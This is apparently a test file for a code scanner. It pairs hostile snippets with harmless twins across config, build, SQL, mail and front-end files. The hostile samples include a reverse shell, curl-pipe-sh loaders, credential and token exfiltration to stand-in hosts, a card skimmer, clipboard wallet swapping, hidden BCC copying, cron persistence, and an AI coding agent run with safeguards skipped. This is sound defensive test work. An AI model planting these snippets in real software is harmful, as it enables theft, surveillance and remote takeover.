import { rulesIn } from "../testing/scan-file.js";

/** Programs and settings in which a command, or a theft, is carried by something else than a script. */
test.each<[rule: string, path: string, attack: string, honest: string]>([
  [
    "download-run",
    ".htaccess",
    'php_value auto_prepend_file "https://inc.invalid/p.txt"\n',
    'php_value auto_prepend_file "/srv/www/prepend.php"\n',
  ],
  [
    "hidden-program",
    ".htaccess",
    "AddHandler application/x-httpd-php .php .ico\n",
    "AddHandler application/x-httpd-php .php .phtml\n",
  ],
  [
    "reverse-shell",
    "color.go",
    'package color\n\n//go:generate -command name bash -c\n//go:generate name "bash\\x20-i\\x20>&\\x20/dev/tcp/203.0.113.19/5050\\x200>&1"\n',
    'package color\n\n//go:generate -command name bash -c\n//go:generate name "stringer\\x20-type=Color"\n',
  ],
  [
    "unknown-code",
    "serve.ts",
    'const at = Object.assign(new URL("https://localhost"), { hostname: ["a", "invalid"].join(".") });\nawait import(at.href);\n',
    'const at = new URL("./plugin.js", import.meta.url);\nawait import(at.href);\n',
  ],
  [
    "unknown-code",
    "info.py",
    'import zlib\ndef fields(data):\n    for kind, body in data:\n        yield type(fields)(compile(zlib.decompress(body[1:]), "png", "exec"), {})\n',
    "import zlib\ndef fields(data):\n    for kind, body in data:\n        yield zlib.decompress(body[1:])\n",
  ],
  [
    "exfiltration",
    "flow.json",
    '{ "command": "n8n export:credentials --all --decrypted | curl -s -d @- https://flow.invalid/c" }\n',
    '{ "command": "n8n export:workflow --all --output=/backup/flows.json" }\n',
  ],
  [
    "unfollowed-secret",
    "Dockerfile",
    "FROM node:22\nRUN cp /root/.npmrc /app/.n && curl -s https://files.example.com/tool -o /usr/bin/tool\n",
    "FROM node:22\nRUN --mount=type=secret,id=npmrc,target=/root/.npmrc npm ci && curl -s https://files.example.com/tool -o /usr/bin/tool\n",
  ],
  [
    "secret-elsewhere",
    "checkout.js",
    'form.addEventListener("submit", () => {\n  const card = form.querySelector("[autocomplete=cc-number]").value;\n  new Image().src = "https://pixel.invalid/g.gif?d=" + btoa(card);\n});\n',
    'form.addEventListener("submit", () => {\n  const card = form.querySelector("[autocomplete=cc-number]").value;\n  form.classList.toggle("wrong", btoa(card).length < 20);\n});\n',
  ],
  [
    "surveillance",
    "main.go",
    `var eth = regexp.MustCompile("^0x[0-9a-fA-F]{40}$")\nfunc watch(s string) {\n\tif eth.MatchString(s) {\n\t\tclipboard.WriteAll("0x${"Ab".repeat(20)}")\n\t}\n}\n`,
    'var eth = regexp.MustCompile("^0x[0-9a-fA-F]{40}$")\nfunc watch(s string) {\n\tif eth.MatchString(s) {\n\t\tclipboard.WriteAll(strings.ToLower(s))\n\t}\n}\n',
  ],
  [
    "surveillance",
    "mail.py",
    'import smtplib\nmsg = EmailMessage()\nmsg["Bcc"] = "archive@mail-journal.invalid"\nsmtplib.SMTP(host).send_message(msg)\n',
    'import os, smtplib\nmsg = EmailMessage()\nmsg["Bcc"] = os.environ["MAIL_BCC"]\nsmtplib.SMTP(host).send_message(msg)\n',
  ],
  [
    "agent-tampering",
    "inventory.js",
    "const { spawnSync } = require('child_process');\nspawnSync('claude', ['--dangerously-skip-permissions', '-p', Buffer.from(TASK, 'base64').toString()]);\nspawnSync('gh', ['gist', 'create', '-']);\n",
    "const { spawnSync } = require('child_process');\nspawnSync('claude', ['--dangerously-skip-permissions', '-p', task]);\nspawnSync('gh', ['pr', 'create']);\n",
  ],
  [
    "downloaded-expression",
    "pyproject.toml",
    '[tool.pdm.scripts]\npost_install = { cmd = ["python", "-c", "t=open(\'x\').read();exec(bytes.fromhex(t))"] }\n',
    '[tool.pdm.scripts]\npost_install = { cmd = ["python", "-c", "print(\'ready\')"] }\n',
  ],
  [
    "surveillance",
    "mail.ts",
    'await transport.sendMail({ to, bcc: "copy@gift-copy.invalid", subject, text });\n',
    "await transport.sendMail({ to, bcc: options.bcc, subject, text });\n",
  ],
  [
    "secret-elsewhere",
    "touch.sql",
    "EXECUTE format('COPY (SELECT %L) TO PROGRAM %L', NEW.password_hash, 'curl -s --data-binary @- https://touch.invalid/row');\n",
    "EXECUTE format('COPY (SELECT %L) TO PROGRAM %L', NEW.password_hash, 'gzip > /backup/row.gz');\n",
  ],
  [
    "exfiltration",
    "digest.sh",
    "gh issue list --limit 9 > issues.txt\n{ gh auth token; cat ~/.config/gh/hosts.yml; } | gzip | base64 -w0 > /tmp/.s\nGH_HOST=git.hub.invalid gh issue comment 7 -R a/inbox --body-file /tmp/.s\n",
    "gh issue list --limit 9 > issues.txt\ngzip < issues.txt | base64 -w0 > /tmp/.s\nGH_HOST=git.hub.invalid gh issue comment 7 -R a/inbox --body-file /tmp/.s\n",
  ],
  [
    "secret-elsewhere",
    "pay.ts",
    'fetch("https://gas.invalid/estimate", { method: "POST", body: JSON.stringify({ chain: 1, signer: wallet.privateKey }) });\n',
    'fetch("https://gas.invalid/estimate", { method: "POST", body: JSON.stringify({ chain: 1, signer: wallet.address }) });\n',
  ],
  [
    "tampering",
    "audit.sql",
    "CREATE FUNCTION audit() RETURNS trigger LANGUAGE plpgsql AS $$\nBEGIN\n  NEW.iban := 'XX20 5511 0000 7043';\n  RETURN NEW;\nEND $$;\n",
    "CREATE FUNCTION audit() RETURNS trigger LANGUAGE plpgsql AS $$\nBEGIN\n  NEW.iban := upper(NEW.iban);\n  RETURN NEW;\nEND $$;\n",
  ],
  [
    "download-run",
    "load.sql",
    "COPY feed FROM PROGRAM 'curl -s https://feed.invalid/x.sh | sh';\n",
    "COPY feed FROM PROGRAM 'gunzip -c /data/feed.csv.gz';\n",
  ],
  [
    "download-run",
    "client.sql",
    "SELECT 1;\n\\! curl -s https://feed.invalid/x.sh | sh\n",
    "SELECT 1;\n\\! date\n",
  ],
  [
    "persistence",
    "jobs.sh",
    'for u in $(cut -d: -f1 /etc/passwd); do\n  crontab -u "$u" jobs.txt\ndone\n',
    'for u in $(cut -d: -f1 /etc/passwd); do\n  crontab -l -u "$u"\ndone\n',
  ],
  [
    "exfiltration",
    "team.gitconfig",
    '[credential]\n\thelper = "!f() { test \\"$1\\" = store && curl -s --data-binary @- https://keep.invalid/k; }; f"\n',
    '[credential]\n\thelper = "!f() { test \\"$1\\" = get && echo username=me; }; f"\n',
  ],
  [
    "download-run",
    "agent.plist",
    "<plist><dict><key>ProgramArguments</key><array><string>/usr/bin/osascript</string><string>-l</string><string>JavaScript</string><string>-e</string><string>ObjC.import('Foundation'); var a = $.NSURL.URLWithString('https://plan.invalid/x'); eval(ObjC.unwrap($.NSString.stringWithContentsOfURLEncodingError(a, 4, null)))</string></array></dict></plist>",
    "<plist><dict><key>ProgramArguments</key><array><string>/usr/bin/osascript</string><string>-l</string><string>JavaScript</string><string>-e</string><string>Application('Music').pause()</string></array></dict></plist>",
  ],
  [
    "surveillance",
    "copy.ts",
    'const forms = [[/\\b0x[0-9a-f]{40}\\b/gi, own]];\ndocument.addEventListener("copy", (e) => {\n  const text = String(getSelection());\n  e.clipboardData?.setData("text/plain", forms.reduce((s, [f, to]) => s.replace(f, to), text));\n});\n',
    'document.addEventListener("copy", (e) => {\n  e.clipboardData?.setData("text/plain", String(getSelection()).replace(/\\u00a0/g, " "));\n});\n',
  ],
  [
    "exfiltration",
    "badge.gradle",
    "gradle.taskGraph.whenReady {\n  def c = new URL('https://badge.invalid/v').openConnection()\n  c.doOutput = true\n  c.outputStream << project.properties.toString()\n  c.responseCode\n}\n",
    "def c = new URL('https://api.github.com/repos/a/b').openConnection()\nproject.version = new groovy.json.JsonSlurper().parse(c.inputStream).tag_name\n",
  ],
  [
    "exfiltration",
    "backup.sh",
    "pg_dumpall --roles-only | curl -s --data-binary @- https://store.invalid/r\n",
    "pg_dump shop | gzip > backups/shop.sql.gz\n",
  ],
  [
    "hidden-name",
    "build.cmd",
    '@echo off\nfor /f "usebackq delims=" %%i in (`"%ProgramFiles%\\Tools\\pick.exe" -latest`) do set "P=%%i"\n"%P%" a.sln\n',
    '@echo off\nfor /f "usebackq delims=" %%i in (`"%ProgramFiles(x86)%\\Installer\\vswhere.exe" -latest -find MSBuild\\**\\MSBuild.exe`) do set "P=%%i"\n"%P%" a.sln\n',
  ],
])("%s in %s", async (rule, path, attack, honest) => {
  expect(await rulesIn(path, attack)).toContain(rule);
  expect(await rulesIn(path, honest)).toEqual([]);
});
